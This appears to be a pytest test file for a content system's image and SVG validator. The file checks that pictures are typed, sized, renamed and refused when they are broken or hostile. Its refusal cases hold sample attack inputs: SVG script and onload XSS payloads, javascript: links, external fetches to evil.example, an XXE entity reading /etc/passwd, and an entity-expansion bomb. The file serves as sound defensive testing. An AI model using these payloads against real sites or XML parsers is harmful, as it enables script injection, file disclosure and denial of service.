"""Pictures beside a text: what they are by their content; what is broken, hostile or misnamed is told and not shown."""

import io
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path

import pytest
from desk import Desk
from effort import at_most_millions
from PIL import Image

from hub.content.edition import Edition
from hub.content.media.inspecting import inspect_media
from hub.content.model.media import Media
from hub.content.source.folder import File
from hub.problems import Unreadable

Write = Callable[..., Path]
Problems = Callable[[], list[str]]
ReadEdition = Callable[..., Edition]
PAGE = "title: Chào\nupdated: 2026-11-24"
SVG = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 160 90">{}</svg>'
SHAPES = "an SVG may hold only shapes, and here it has "
BROKEN = "the SVG is broken here; save it again as a plain SVG in UTF-8"
NO_BOX = 'this is not an SVG with a viewBox; write viewBox="0 0 width height"'


def picture(kind: str, size: tuple[int, int] = (200, 100)) -> bytes:
    data = io.BytesIO()
    Image.effect_noise(size, 60).convert("RGB").save(data, kind)
    return data.getvalue()


def facts_of(folder: Path, name: str, data: bytes) -> Media:
    path = folder / name
    path.write_bytes(data)
    return inspect_media(File(str(path), name, (0, len(data), 0, 0)))


def refused(folder: Path, name: str, data: bytes) -> str:
    with pytest.raises(Unreadable) as caught:
        facts_of(folder, name, data)
    (problem,) = caught.value.problems
    return problem.text(str).removeprefix(f"{name}:")


@pytest.mark.parametrize(
    ("name", "kind", "type"),
    [
        ("a.jpg", "JPEG", "image/jpeg"),
        ("a.jpeg", "JPEG", "image/jpeg"),
        ("a.png", "PNG", "image/png"),
        ("a.webp", "WEBP", "image/webp"),
    ],
)
def test_a_picture_is_known_by_its_type_size_and_digest(tmp_path: Path, name: str, kind: str, type: str) -> None:
    data = picture(kind)
    found = facts_of(tmp_path, name, data)
    assert (found.name, found.type, found.size, found.width, found.height) == (name, type, len(data), 200, 100)
    assert len(found.digest) == 16 and int(found.digest, 16) >= 0


def test_a_picture_with_damaged_notes_of_a_camera_is_shown_without_a_word(tmp_path: Path) -> None:
    data = io.BytesIO()
    far = b"Exif\0\0MM\0*\0\0\0\x08\0\x01\x01\x0f\0\x02\0\0\xff\xff\0\0\xff\xff"  # a name that would lie beyond the end of the file
    Image.new("RGB", (20, 10)).save(data, "JPEG", exif=far)
    assert (
        facts_of(tmp_path, "a.jpg", data.getvalue()).width,
        facts_of(tmp_path, "a.jpg", data.getvalue()).located,
    ) == (20, False)


@pytest.mark.parametrize(
    ("name", "kind", "type"),
    [("a.jpg", "PNG", "image/png"), ("a.png", "JPEG", "image/jpeg"), ("a.webp", "PNG", "image/png")],
)
def test_a_picture_that_lies_about_its_kind_is_refused(tmp_path: Path, name: str, kind: str, type: str) -> None:
    assert (
        refused(tmp_path, name, picture(kind)) == f"1: the file’s content is {type}, not what its name says; rename it"
    )


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("a.png", picture("GIF")),
        ("a.jpg", b"<!doctype html>"),
        ("a.png", SVG.encode()),
        ("a.webp", b""),
        ("a.jpg", picture("TIFF")),
        ("a.png", b"GIF89a" + b"\0" * 99),
    ],
)
def test_what_is_no_picture_that_we_show_is_refused(tmp_path: Path, name: str, data: bytes) -> None:
    assert (
        refused(tmp_path, name, data) == "1: this is not a JPEG, PNG or WebP that can be read; save the picture again"
    )


@pytest.mark.parametrize(("name", "kind"), [("a.jpg", "JPEG"), ("a.png", "PNG"), ("a.webp", "WEBP")])
@pytest.mark.parametrize("part", [0.1, 0.5, 0.9])
def test_a_picture_that_is_cut_short_is_refused(tmp_path: Path, name: str, kind: str, part: float) -> None:
    data = picture(kind)
    assert (
        refused(tmp_path, name, data[: int(len(data) * part)])
        == "1: this is not a JPEG, PNG or WebP that can be read; save the picture again"
    )


def test_a_picture_of_more_than_forty_million_pixels_is_refused_unread(tmp_path: Path) -> None:
    data = io.BytesIO()
    Image.new("1", (8_000, 5_001)).save(data, "PNG")
    with at_most_millions(10):
        assert (
            refused(tmp_path, "a.png", data.getvalue())
            == "1: the picture has more than 40 million pixels; save a smaller one"
        )


def test_a_picture_of_more_than_twenty_megabytes_is_refused_unread(tmp_path: Path) -> None:
    with (tmp_path / "a.jpg").open("wb") as file:
        file.truncate(20 * 1024 * 1024 + 1)
    with pytest.raises(Unreadable, match="larger than 20 MB"):
        inspect_media(File(str(tmp_path / "a.jpg"), "a.jpg", (0, 0, 0, 0)))


def test_a_picture_that_is_gone_when_it_is_read_says_so(tmp_path: Path) -> None:
    with pytest.raises(Unreadable, match="cannot be read"):
        inspect_media(File(str(tmp_path / "a.jpg"), "a.jpg", (0, 0, 0, 0)))


@pytest.mark.parametrize("name", ["a.pdf", "a.zip", "a", "a.png.html", "a.", ".png"])
def test_a_file_of_another_kind_is_refused(tmp_path: Path, name: str) -> None:
    assert refused(tmp_path, name, picture("PNG")) == "1: this kind of file is not shown; use SVG, JPEG, PNG or WebP"


@pytest.mark.parametrize(
    ("name", "cure"),
    [
        ("A.png", "a.png"),
        ("a.PNG", "a.png"),
        ("ảnh 1.jpg", "anh-1.jpg"),
        ("<script>.png", "script.png"),
        ('"onerror=.jpg', "onerror.jpg"),
        ("-rf.png", "rf.png"),
        ("%2e%2e.png", "2e-2e.png"),
        ("日本.png", "hinh.png"),
    ],
)
def test_a_name_that_no_address_can_carry_is_told_one_that_can(tmp_path: Path, name: str, cure: str) -> None:
    assert (
        refused(tmp_path, name, b"")
        == f"1: a picture’s name has lower-case letters a–z, digits and hyphens; rename it to {cure}"
    )


# Drawings


@pytest.mark.parametrize(
    "inside",
    [
        '<path d="M0 0h9" fill="none" stroke="#123"/>',
        '<defs><linearGradient id="a"><stop offset="0" stop-color="red"/></linearGradient></defs><rect fill="url(#a)"/>',
        "<rect fill=\"url('#a')\"/>",
        '<use href="#a"/>',
        '<use xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="#a"/>',
        "<title>Chào &amp; tạm biệt</title><text>a &lt;script&gt; b</text>",
        "<!-- <script>alert(1)</script> -->",
        "<text><![CDATA[<script>alert(1)</script>]]></text>",
        '<text xml:space="preserve" xml:lang="vi">a</text>',
        '<g opacity=".5" transform="scale(2)"><circle r="1"/></g>',
    ],
)
def test_a_drawing_of_shapes_and_words_is_shown(tmp_path: Path, inside: str) -> None:
    found = facts_of(tmp_path, "a.svg", SVG.format(inside).encode())
    assert (found.type, found.width, found.height) == ("image/svg+xml", 160, 90)


@pytest.mark.parametrize(
    "inside",
    [
        "<script>alert(1)</script>",
        '<x:script xmlns:x="http://www.w3.org/2000/svg">alert(1)</x:script>',
        '<path onload="alert(1)"/>',
        '<path onclick = "alert(1)"/>',
        '<path ONLOAD="alert(1)"/>',
        "<style>@import 'http://evil.example/'</style>",
        '<path style="fill:url(http://evil.example/)"/>',
        "<foreignObject><p>a</p></foreignObject>",
        '<iframe xmlns="http://www.w3.org/1999/xhtml" src="x"/>',
        '<img xmlns="http://www.w3.org/1999/xhtml" src="x"/>',
        '<handler xmlns="http://www.w3.org/2001/xml-events">alert(1)</handler>',
        '<a href="javascript:alert(1)"><path/></a>',
        '<a href="#a"><path/></a>',
        '<image href="http://evil.example/x.png"/>',
        '<use href="http://evil.example/x.svg#a"/>',
        '<use href=" http://evil.example/"/>',
        '<use href="&#104;ttp://evil.example/"/>',
        '<use href="data:image/svg+xml;base64,AAAA#x"/>',
        '<use xmlns:q="http://www.w3.org/1999/xlink" q:href="http://evil.example/x.svg#a"/>',
        '<path fill="url(http://evil.example/#a)"/>',
        "<path fill=\"url( 'http://evil.example/#a')\"/>",
        '<path fill="u&#114;l(http://evil.example/#a)"/>',
        '<path fill="u\\72l(http://evil.example/#a)"/>',
        '<path filter="URL(//evil.example/#a)"/>',
        '<animate attributeName="href" to="javascript:alert(1)"/>',
        '<set attributeName="onload" to="alert(1)"/>',
        '<g xml:base="http://evil.example/"/>',
        '<path xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load"/>',
        "<?xml-stylesheet href='http://evil.example/'?>",
        "<svg><script/></svg>",
        "<SCRIPT/>",
        "<metadata/>",
    ],
)
def test_a_drawing_with_more_than_shapes_is_refused(tmp_path: Path, inside: str) -> None:
    assert refused(tmp_path, "a.svg", SVG.format(f"\n\n{inside}").encode()).startswith(f"3: {SHAPES}")


@pytest.mark.parametrize(
    "entities",
    [
        '<!ENTITY a "b">',
        '<!ENTITY a SYSTEM "file:///etc/passwd">',
        '<!ENTITY % a SYSTEM "http://evil.example/"> %a;',
        "",
        '<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;">',
    ],
)
def test_a_drawing_with_a_document_type_is_refused(tmp_path: Path, entities: str) -> None:
    text = f"<!DOCTYPE svg [{entities}]>{SVG.format('<text>a</text>')}"
    assert refused(tmp_path, "a.svg", text.encode()).startswith(f"1: {SHAPES}<!DOCTYPE svg>; ")


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"<svg",
        b"<svg viewBox='0 0 1 1'/>",
        b"<SVG xmlns='http://www.w3.org/2000/svg' viewBox='0 0 1 1'/>",
        b"<html xmlns='http://www.w3.org/1999/xhtml'/>",
        SVG.format("<path>").encode(),
        SVG.format("<path d=x/>").encode(),
        SVG.format("&nbsp;").encode(),
        SVG.format("").encode() * 2,
        SVG.format("\xe9").encode("latin-1"),
        b'<?xml version="1.0" encoding="utf-7"?>' + SVG.format("").encode(),
        b'<?xml version="1.0" encoding="iso-8859-1"?>' + SVG.format("").encode(),
        b"\x00" + SVG.format("").encode(),
    ],
)
def test_what_is_no_drawing_is_refused(tmp_path: Path, data: bytes) -> None:
    assert refused(tmp_path, "a.svg", data) == f"1: {BROKEN}"


@pytest.mark.parametrize(
    "box",
    [
        "",
        "0 0 10",
        "0 0 1.2.3 4",
        "0 0 . .",
        "0 0 0 10",
        "0 0 10 -1",
        "0 0 1e400 1",
        "0 0 nan 1",
        "a b c d",
        "0 0 10 10 10",
        "0 0 100001 1",
    ],
)
def test_a_drawing_without_a_box_that_can_be_measured_is_refused(tmp_path: Path, box: str) -> None:
    assert refused(tmp_path, "a.svg", SVG.replace("0 0 160 90", box).format("").encode()) == f"1: {NO_BOX}"


@pytest.mark.parametrize(
    ("box", "size"), [("0 0 10 20", (10, 20)), ("-5,-5,10.4,0.2", (10, 1)), (" 0\n0  1e2\t20 ", (100, 20))]
)
def test_a_drawing_has_the_size_of_its_box(tmp_path: Path, box: str, size: tuple[int, int]) -> None:
    found = facts_of(tmp_path, "a.svg", SVG.replace('"0 0 160 90"', f"'{box}'").format("").encode())
    assert (found.width, found.height) == size


@pytest.mark.parametrize(
    "inside",
    ["<g>" * 300_000, '<path d="M0 0"/>' * 120_000, f'<path d="{"M0 0" * 400_000}"/>', "<!--" + "-" * 1_000_000],
)
def test_a_large_drawing_is_no_work(tmp_path: Path, inside: str) -> None:
    path = tmp_path / "a.svg"
    path.write_bytes(SVG.format(inside).encode())
    with at_most_millions(100), suppress(Unreadable):
        inspect_media(File(str(path), "a.svg", (0, 0, 0, 0)))


def test_a_drawing_of_more_than_two_megabytes_is_refused(tmp_path: Path) -> None:
    assert (
        refused(tmp_path, "a.svg", SVG.format(" " * 2 * 1024 * 1024).encode())
        == "1: the drawing is larger than 2 MB; simplify it, or save it as a picture"
    )


# Beside a text


@pytest.fixture
def beside(write: Write) -> Write:
    """A page with a picture, and the picture."""
    write("pages/a/index.vi.md", PAGE, "một\n\n![hình](x.svg)\n")
    return lambda data: write("pages/a/x.svg", raw=data)


def test_a_picture_in_a_text_is_found_beside_it(beside: Callable[[str], Path], desk: Desk) -> None:
    path = beside(SVG.format(""))
    assert desk.problems() == []
    edition = desk.edition()
    entry, card = edition.entries["page"]["a"], edition.cards["page"]["a"]
    assert (desk.archive.path_of(card, "x.svg"), desk.archive.path_of(card, "y.svg")) == (path, None)
    assert entry.readings["vi"].files["x.svg"].width == 160


def test_a_picture_that_is_not_there_is_told_where_it_is_named(write: Write, problems: Problems) -> None:
    write("pages/a/index.vi.md", PAGE, "một\n\n![hình](x.svg)\n")
    assert problems() == ["content/pages/a/index.vi.md:7: there is no file x.svg beside this one; put it there"]


def test_a_text_without_a_folder_of_its_own_is_told_to_have_one(write: Write, problems: Problems) -> None:
    write("pages/a.vi.md", PAGE, "![hình](x.svg)\n")
    write("pages/x.svg", raw=SVG.format(""))
    assert problems() == [
        "content/pages/a.vi.md:5: a text with pictures has a folder of its own; move it to a/index.vi.md, and x.svg beside it",
        "content/pages/x.svg:1: warning: this picture is not beside any text, so no one sees it; put it in the folder of its text",
    ]


def test_a_broken_picture_keeps_the_last_good_entry_whole(
    beside: Callable[[str], Path], edition: ReadEdition, problems: Problems
) -> None:
    beside(SVG.format(""))
    before = edition().entries["page"]["a"].readings["vi"]
    beside(SVG.format("<script/>"))
    assert [line.partition("<")[0] for line in problems()] == [f"content/pages/a/x.svg:1: {SHAPES}"]
    assert edition().entries["page"]["a"].readings["vi"] == before


def test_an_entry_whose_picture_was_never_good_is_not_shown_without_it(
    beside: Callable[[str], Path], edition: ReadEdition
) -> None:
    beside(SVG.format("<script/>"))
    assert "a" not in edition().entries["page"]


def test_a_picture_in_the_other_form_of_unicode_is_found(write: Write, problems: Problems) -> None:
    write("pages/a/index.vi.md", PAGE, "chữ")
    write("exhibits/r/index.vi.md", f"{PAGE}\norder: 1\nsummary: s")
    write("exhibits/r/w/index.vi.md", f"{PAGE}\nmedia: ảnh.png")
    write("exhibits/r/w/a\u0309nh.png", raw=picture("PNG"))
    assert not [line for line in problems() if "there is no file" in line]


def test_what_a_drawing_was_made_from_may_lie_beside_it(
    beside: Callable[[str], Path], write: Write, problems: Problems
) -> None:
    beside(SVG.format(""))
    write("pages/a/draw.py", raw="x")
    write("pages/a/notes.txt", raw="x")
    assert problems() == []
